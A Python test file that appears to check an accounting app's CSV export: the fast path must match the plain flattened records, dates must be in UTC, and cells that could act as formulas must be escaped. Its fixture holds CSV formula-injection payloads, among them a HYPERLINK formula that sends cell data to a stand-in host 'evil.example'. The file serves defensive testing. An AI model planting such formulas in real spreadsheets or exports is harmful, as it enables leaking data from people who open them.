"""The CSV export's fast path writes the text of the plain flattened records, on SQLite and PostgreSQL."""

from datetime import datetime
from decimal import Decimal
from zoneinfo import ZoneInfo

import pytest
from sqlalchemy import select, update

from floqast.analytics import csv_text
from floqast.analytics.filters import Filters
from floqast.analytics.generate import Profile, generate
from floqast.analytics.models import ChecklistItem, Entity, Reconciliation
from floqast.analytics.records import DATASETS
from floqast.extensions import db
from floqast.keys.models import ANALYTICS_SERVICES, Service

BOOKS = Profile(entities=(("North", "USD"), ("South", "EUR")), accounts=6, months=2, through=(2025, 3), seed=7,
                people=("Ann", "Ben", "Cy"))
KOLKATA = ZoneInfo("Asia/Kolkata")
# Text a spreadsheet would run as a formula, at its start or after a ; or a line break where a spreadsheet that
# separates cells with ; starts a new one, and text that only looks like it might.
HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "-5", "@x", "\tx", "+1", "\r=1", "'=quoted",
           "'", "plain", "", "ok;=1+1", 'a;"=2', "line\n@x", "a\r@x", "a\r\n-1;b", "a;;'"]


@pytest.fixture
def odd_books(team):
    """Generated books, then rows with what the generator never makes: hostile text, negative and tiny money,
    NULLs, moments with microseconds or from another zone, empty and hostile tags."""
    generate(team, BOOKS)
    reconciliations = db.session.scalars(select(Reconciliation.id).order_by(Reconciliation.id)).all()
    checklist_items = db.session.scalars(select(ChecklistItem.id).order_by(ChecklistItem.id)).all()
    amounts = [Decimal("-1234.50"), Decimal("-0.05"), Decimal(0), Decimal("9999999999999999.99"), Decimal("0.10")]
    for index, text in enumerate(HOSTILE):
        signed_at = datetime(2025, 3, 31, 23, 45, 6, 123456 * (index % 2), tzinfo=KOLKATA)
        db.session.execute(update(Reconciliation).where(Reconciliation.id == reconciliations[index]).values(
            account_name=text, account_number=text[:50], auto_rec_type=None if index % 3 else text,
            preparer_signed_by=text, preparer_signed_at=signed_at, reviewer_signed_by=None,
            reviewer_signed_at=None, reviewer_assigned_to=None if index % 2 else text,
            gl_balance=amounts[index % len(amounts)], reconciled_balance=amounts[(index + 1) % len(amounts)],
            reconciling_items=Decimal("-0.01") * index, updated_at=signed_at))
        db.session.execute(update(ChecklistItem).where(ChecklistItem.id == checklist_items[index]).values(
            description=text, frequency=text[:20], tags=[] if index % 2 else [text, "ok", text],
            reviewer_signed_by=text, reviewer_signed_at=signed_at, preparer_signed_at=None, updated_at=signed_at))
    db.session.execute(update(Entity).where(Entity.name == "North").values(name="@North"))
    db.session.commit()


@pytest.mark.parametrize("service", ANALYTICS_SERVICES)
def test_the_fast_csv_rows_are_the_plain_flattened_records(app, team, odd_books, service):
    dataset = DATASETS[service]
    with db.engine.connect() as connection:
        if connection.dialect.name == "postgresql":  # a server whose zone is not UTC sends moments in its own
            connection.exec_driver_sql("SET LOCAL TIME ZONE 'Asia/Kolkata'")
        fast = connection.execute(csv_text.query(dataset, team.id, Filters(), team.today()))
        fast_rows = list(csv_text.rows(dataset, fast))
        plain_rows = connection.execute(dataset.query(team.id, Filters(), team.today()))
        plain = [dataset.flat_record(row) for row in plain_rows]
    as_text = [["" if value is None else str(value) for value in row] for row in fast_rows]  # as csv.writer writes

    assert len(as_text) == len(plain) > len(HOSTILE)
    assert as_text == [list(row.values()) for row in plain]
    cells = {value for row in as_text for value in row}
    assert {"'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")", "'-5", "'@x", "'\tx", "''=quoted", "''",
            "'@North", ""} <= cells
    assert {"ok;'=1+1", "a;'\"=2", "line\n'@x", "a\r'@x", "a\r\n'-1;b", "a;;''"} <= cells
    assert ("-1234.50" in cells and "-0.05" in cells) if service is Service.RECONCILIATIONS else ("'@x;ok;'@x" in cells)
    assert "2025-03-31T18:15:06Z" in cells and not any(cell.endswith(".123456Z") for cell in cells)  # whole seconds
